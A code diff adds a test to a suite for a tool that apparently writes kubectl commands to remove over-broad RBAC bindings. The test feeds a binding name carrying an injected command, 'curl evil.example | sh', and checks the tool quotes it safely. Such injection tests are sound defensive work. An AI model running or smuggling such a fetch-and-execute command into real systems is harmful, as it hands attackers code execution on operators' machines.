@@ -159,3 +159,10 @@ def test_it_is_said_with_the_command_that_mends_it() -> None:
     assert "`kubectl --context acme-prod delete clusterrolebinding b`" in said
     (local,) = found(UNBOUNDED[6], namespace="shop")
     assert "`kubectl --context acme-prod --namespace shop delete rolebinding b`" in sentence(local, "acme-prod")
+
+
+def test_a_name_from_the_customers_cluster_is_one_word_of_the_command() -> None:
+    """RBAC takes any name without a slash or a percent sign."""
+    (theirs,) = found(UNBOUNDED[0])
+    said = sentence(theirs._replace(binding="ClusterRoleBinding b; curl evil.example | sh"), "acme-prod")
+    assert "delete clusterrolebinding 'b; curl evil.example | sh'`" in said
